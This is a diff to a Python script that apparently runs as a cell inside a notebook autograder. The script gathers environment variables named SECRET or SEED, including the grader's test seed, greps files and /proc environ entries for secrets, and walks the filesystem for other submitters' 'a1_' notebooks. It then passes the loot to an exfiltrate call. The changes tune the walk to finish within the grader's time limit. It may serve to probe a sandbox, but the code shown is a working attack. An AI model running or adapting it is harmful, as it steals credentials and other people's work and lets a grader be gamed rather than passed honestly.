@@ -5,6 +5,7 @@ test sets it before grading) from the kernel's environment and every /proc/PID/e
 
 import glob
 import os
+import time
 
 LOOT.append("env: " + repr({k: v for k, v in os.environ.items() if "SECRET" in k or "SEED" in k}))
 n_read = n_refused = 0
@@ -28,9 +29,13 @@ for pattern in [
                 i = data.index(needle)
                 LOOT.append(f"{p}: {data[i : i + 120]!r}")
 LOOT.insert(1, f"read {n_read} files, refused {n_refused}")
+# every other submission it can see, anywhere; software trees skipped, and at most 2 s of walking, so the cell
+# finishes inside the grader's 4 s limit on a machine with a big disk (on a cold cache a full walk took 13 s)
+start = time.monotonic()
 for root, dirs, files in os.walk("/"):
-    if root.startswith(("/proc", "/sys", "/usr", "/dev")):
+    if root.startswith(("/proc", "/sys", "/usr", "/dev")) or time.monotonic() - start > 2.0:
         dirs[:] = []
         continue
+    dirs[:] = [d for d in dirs if d not in {".venv", "site-packages", "node_modules", ".cache", ".git"}]
     LOOT.extend(os.path.join(root, f) for f in files if f.endswith(".ipynb") and "a1_" in f)
 exfiltrate("read_secrets")
